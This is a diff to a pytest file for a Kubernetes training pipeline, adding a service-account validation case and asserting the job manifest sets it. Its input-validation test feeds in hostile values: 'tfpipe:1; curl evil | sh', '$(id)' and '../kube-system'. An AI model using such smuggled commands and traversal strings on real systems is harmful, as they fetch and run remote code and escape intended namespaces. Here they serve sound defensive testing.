@@ -40,7 +40,8 @@ def test_the_placement_is_the_deployments_and_checked():
     with pytest.raises(UserError, match="TFPIPE_TRAIN_IMAGE"):
         Placement.from_env({})
     for key, bad in (("TFPIPE_TRAIN_IMAGE", "tfpipe:1; curl evil | sh"), ("TFPIPE_TRAIN_IMAGE", "$(id)"),
-                     ("TFPIPE_TRAIN_NAMESPACE", "../kube-system"), ("TFPIPE_KUBERNETES_CONN_ID", "a b")):
+                     ("TFPIPE_TRAIN_NAMESPACE", "../kube-system"), ("TFPIPE_KUBERNETES_CONN_ID", "a b"),
+                     ("TFPIPE_TRAIN_SERVICE_ACCOUNT", "Admin!")):
         with pytest.raises(UserError, match=key):
             Placement.from_env({"TFPIPE_TRAIN_IMAGE": "tfpipe:1", key: bad})
 
@@ -50,12 +51,13 @@ def test_the_placement_is_the_deployments_and_checked():
 def test_the_manifests_of_each_strategy_are_valid_kubernetes_objects(strategy, pods, cluster):
     params = TrainConfig(strategy=strategy, workers=3, parameter_servers=2, runner="kubernetes",
                          kubernetes={"cpu": "500m", "memory": "2Gi", "gpus": 1, "backoff_limit": 2})
-    placement = Placement("tfpipe:1", "ml")
+    placement = Placement("tfpipe:1", "ml", service_account="tfpipe-training")
     service, job = manifests("tfpipe-train-abc-1", "abc", placement, params, "s3://b/p/r/request.json")
     for manifest in (service, job):
         kubernetes_validate.validate(manifest, KUBERNETES, strict=True)
         assert manifest["metadata"]["labels"][RUN_LABEL] == "abc" and manifest["metadata"]["namespace"] == "ml"
     assert job["spec"]["completions"] == pods and job["spec"]["backoffLimit"] == 2
+    assert job["spec"]["template"]["spec"]["serviceAccountName"] == "tfpipe-training"
     (container,) = job["spec"]["template"]["spec"]["containers"]
     assert container["resources"] == {"requests": {"cpu": "500m", "memory": "2Gi"},
                                       "limits": {"memory": "2Gi", "nvidia.com/gpu": 1}}
